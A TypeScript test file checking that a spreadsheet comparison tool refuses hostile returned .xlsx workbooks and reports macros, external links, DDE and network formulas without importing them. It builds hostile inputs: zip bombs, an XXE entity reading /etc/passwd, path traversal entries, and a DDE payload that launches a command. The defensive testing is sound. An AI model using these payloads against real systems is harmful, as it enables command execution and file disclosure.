import { beforeAll, describe, expect, it } from 'vitest';
import { openPackage } from '../../src/package/openPackage';
import { noteText } from '../../src/text/share';
import { memoryValues } from '../workbook/memoryBook';
import { forge } from '../package/support/forge';
import { partsOf } from '../package/support/parts';
import { RELATIONS, zipParts, type PartTexts } from '../package/support/makePackage';
import { fixtureSheets, openPane, type OpenedPane } from './support/openPane';
import { SHENGYUE } from '../support/fixtureSheet';
import { columnName } from '../../src/sheet/address';

/** A workbook that came home, taken apart so that a test can make it hostile. */
let pane: OpenedPane;
let copy: Uint8Array;
let parts: Record<string, Uint8Array>;
const SHEET = 'xl/worksheets/sheet2.xml';
const TYPES = '[Content_Types].xml';

const textOf = (path: string) => Buffer.from(parts[path] ?? []).toString('utf8');
const withParts = (more: PartTexts) => zipParts({ ...parts, ...more });
const inSheet = (change: (xml: string) => string) => withParts({ [SHEET]: change(textOf(SHEET)) });

/** A cell of the copy's first row, typed over as an attacker's own program would write it. */
function cell(inner: string, kind = ''): Uint8Array {
  return inSheet((xml) => {
    const pattern = new RegExp(`<c r="${remarkColumn()}5"( s="\\d+")?[^>]*?(?:/>|>.*?</c>)`);
    if (!pattern.test(xml)) throw new Error('no such cell');
    return xml.replace(pattern, (_, style = '') => `<c r="${remarkColumn()}5"${String(style)}${kind}>${inner}</c>`);
  });
}

function remarkColumn(): string {
  const titles = [...(openPackage(copy).model.sheets[0]?.cells.get(3) ?? [])];
  return columnName(titles.find(([, { value }]) => value === '备注')?.[0] ?? -1);
}

async function collected(bytes: Uint8Array) {
  const good = withParts({});
  await pane.commands.collect.run([
    { name: '恶意.xlsx', bytes: async () => Promise.resolve(bytes) },
    { name: '正常.xlsx', bytes: async () => Promise.resolve(good) },
  ]);
  const { collected: found } = pane.state().share;
  await pane.commands.dropCollected.run();
  if (!found) throw new Error('nothing collected');
  const notes = found.result.notes.filter(({ file }) => found.result.files[file]?.label === '恶意.xlsx');
  return { ...found, told: notes.map((note) => noteText(note, 'zh-CN')) };
}

beforeAll(async () => {
  pane = await openPane(fixtureSheets(SHENGYUE));
  await pane.commands.choosePolicy.run('shengzhou-2021');
  await pane.commands.setAsOf.run('2023-06-30');
  await pane.commands.checkLeaving.run();
  await pane.commands.makeCopies.run();
  copy = pane.state().share.made?.files[0]?.bytes ?? new Uint8Array();
  parts = partsOf(copy);
}, 60_000);

const book = () =>
  JSON.stringify(
    pane.port.book.sheets.map((sheet) => memoryValues(sheet, { row: 0, column: 0, rows: 1_300, columns: 40 })),
  );

describe('a hostile file among those that came back is refused with its sentence, and takes nothing from the others', () => {
  const big = (length: number) => new Uint8Array(length);
  const dtd = (entity: string) =>
    inSheet((xml) => xml.replace(/^(<\?xml[^>]*\?>)?/, (head) => `${head}<!DOCTYPE a [<!ENTITY x ${entity}>]>`));
  it.each<[string, () => Uint8Array, RegExp]>([
    ['a bomb by ratio', () => withParts({ 'xl/media/a.png': big(60_000_000) }), /压缩比异常（位置：xl\/media\/a.png）/],
    [
      'a bomb by entries',
      () =>
        withParts(Object.fromEntries(Array.from({ length: 5_000 }, (_, at) => [`xl/media/${String(at)}.png`, 'x']))),
      /有 5,0\d\d 个部件，超过 2,000 个的上限/,
    ],
    [
      'a sheet that says it is huge',
      () => forge(withParts({}), SHEET, { field: 24, value: 300_000_000 }),
      /位置：xl\/worksheets\/sheet2.xml）有 300 MB，超过 250 MB 的上限/,
    ],
    [
      'a sheet larger than it says',
      () => forge(withParts({}), SHEET, { field: 24, value: 100 }),
      /已损坏（位置：xl\/worksheets\/sheet2.xml）/,
    ],
    ['an entity', () => dtd('"ha"'), /不允许的 XML 声明/],
    ['an entity from outside', () => dtd('SYSTEM "file:///etc/passwd"'), /不允许的 XML 声明/],
    ['a path that leaves the package', () => withParts({ '../../evil.xml': 'x' }), /已损坏（位置：..\/..\/evil.xml）/],
    ['an absolute path', () => withParts({ '/etc/passwd': 'x' }), /已损坏（位置：\/etc\/passwd）/],
    [
      'one entry twice',
      () => withParts({ [SHEET.toUpperCase()]: textOf(SHEET) }),
      /已损坏（位置：XL\/WORKSHEETS\/SHEET2.XML）/,
    ],
    ['a shared string out of range', () => cell('<v>99999999</v>', ' t="s"'), /已损坏/],
    ['nesting without end', () => cell('<a>'.repeat(50_000) + '</a>'.repeat(50_000)), /已损坏/],
    ['broken XML', () => inSheet((xml) => xml.slice(0, xml.length / 2)), /已损坏/],
    [
      'a password',
      () => {
        const bytes = new Uint8Array(4_096);
        bytes.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
        bytes.set(Buffer.from('EncryptedPackage\0', 'utf16le'), 1_024);
        return bytes;
      },
      /设了打开密码/,
    ],
    ['a file cut short', () => copy.slice(0, copy.length / 2), /不完整或已损坏/],
    ['a web page called .xlsx', () => Buffer.from('<html>'), /这不是 Excel 工作簿/],
    [
      'a document of another kind inside',
      () => withParts({ 'xl/workbook.xml': '<w:document xmlns:w="urn:w"/>' }),
      /没有工作簿|已损坏/,
    ],
  ])('%s', async (_, make, sentence) => {
    const before = book();
    const { unreadable, result } = await collected(make());
    expect(unreadable.map(({ label }) => label)).toEqual(['恶意.xlsx']);
    expect(unreadable[0]?.why).toMatch(sentence);
    expect(result.files.map(({ label, status }) => `${label} ${status.kind}`)).toEqual(['正常.xlsx compared']);
    expect(result.changes).toEqual([]);
    expect(book()).toBe(before);
  });
});

describe('what a file holds that could act or reach outside is told and not brought in', () => {
  const linked = () => ({
    'xl/externalLinks/externalLink1.xml': `<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${RELATIONS}"><externalBook r:id="rId1"/></externalLink>`,
  });
  it.each<[string, () => Uint8Array, string]>([
    [
      'macros',
      () => withParts({ 'xl/vbaProject.bin': 'macro' }),
      '文件里有宏，没有运行，也没有带入；请勿启用，并向交回的人核实',
    ],
    [
      'links to other files',
      () => withParts(linked()),
      '文件里有指向其他文件的链接，没有运行，也没有带入；请勿启用，并向交回的人核实',
    ],
    ['an external link in a formula', () => cell('<f>[1]Sheet1!$A$1</f><v>1</v>'), '引用外部文件，没有带入'],
    ['DDE', () => cell(`<f>cmd|'/c calc'!A0</f><v>1</v>`), '调用外部程序（DDE），没有带入'],
    ['WEBSERVICE', () => cell('<f>_xlfn.WEBSERVICE("http://x/"&amp;A5)</f><v>1</v>'), '访问网络，没有带入'],
    ['HYPERLINK', () => cell('<f>HYPERLINK("http://x","请点击")</f><v>1</v>'), '超链接公式，没有带入'],
  ])('%s', async (_, make, sentence) => {
    const { unreadable, result, told } = await collected(make());
    expect(unreadable).toEqual([]);
    expect(told.some((text) => text.endsWith(sentence))).toBe(true);
    expect(result.changes).toEqual([]);
  });

  it.each(['=1+1', "=cmd|'/c calc'!A0", '+86 575', '-2', '@SUM(A1)', '=HYPERLINK("http://x")'])(
    'a text that looks like a formula comes as the text that it is: %s',
    async (text) => {
      const inner = text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
      const { result } = await collected(cell(`<is><t>${inner}</t></is>`, ' t="inlineStr"'));
      expect(result.changes.map(({ offers }) => offers[0]?.value)).toEqual([text]);
    },
  );

  it.each<[string, () => Uint8Array]>([
    [
      'claims a sheet of 1,048,576 x 16,384',
      () => inSheet((xml) => xml.replace('<sheetData', '<dimension ref="A1:XFD1048576"/><sheetData')),
    ],
    [
      'has a cell in the last corner',
      () =>
        inSheet((xml) =>
          xml.replace('</sheetData>', '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'),
        ),
    ],
    [
      'says wrong content types',
      () => withParts({ [TYPES]: textOf(TYPES).replaceAll('spreadsheetml.worksheet', 'wordprocessingml.document') }),
    ],
  ])('a copy that %s is compared as any other', async (_, make) => {
    const { unreadable, result } = await collected(make());
    expect(unreadable).toEqual([]);
    expect(result.files[0]?.status).toMatchObject({ kind: 'compared', changed: 0 });
  });
});
